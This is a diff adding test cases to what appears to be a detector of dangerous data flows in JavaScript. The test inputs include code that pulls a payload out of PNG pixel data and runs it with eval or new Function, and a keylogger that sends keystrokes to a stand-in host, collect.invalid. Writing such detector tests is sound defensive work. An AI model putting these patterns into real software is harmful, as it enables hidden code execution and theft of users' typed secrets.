@@ -20,4 +20,31 @@ describe('browsers and desktops', () => {
     assert.deepEqual(flowsOf(`${read} new Function(d.data)();`), ['image-data>evaluated']);
     assert.deepEqual(flowsOf(`${read} console.log(d.data);`), []);
   });
+
+  it('have pictures, which packages read', () => {
+    const hidden = ['image-data>evaluated'];
+    assert.deepEqual(
+      flowsOf(
+        `const { PNG } = require('pngjs'); const p = PNG.sync.read(fs.readFileSync(f)); eval(String.fromCharCode(...p.data));`,
+      ),
+      hidden,
+    );
+    assert.deepEqual(
+      flowsOf(
+        `require('sharp')(f).raw().toBuffer().then((b) => { new Function(b.filter((x) => x & 1).toString())(); });`,
+      ),
+      hidden,
+    );
+    assert.deepEqual(flowsOf(`require('sharp')(f).resize(9).toFile(g); eval('1+1');`), []);
+  });
+
+  it('have keyboards, to which an object of another package listens', () => {
+    const listen = (send: string) =>
+      flowsOf(`const { GlobalKeyboardListener: Keys } = require('node-global-key-listener');
+        class Log { all = []; constructor(keys = new Keys()) { keys.addListener((e) => { this.all.push(e.name); ${send} }); } } new Log();`);
+    assert.deepEqual(listen(`fetch('https://collect.invalid', { body: this.all.join('') });`), [
+      'keystrokes>network@collect.invalid',
+    ]);
+    assert.deepEqual(listen(`console.log(this.all.length);`), []);
+  });
 });
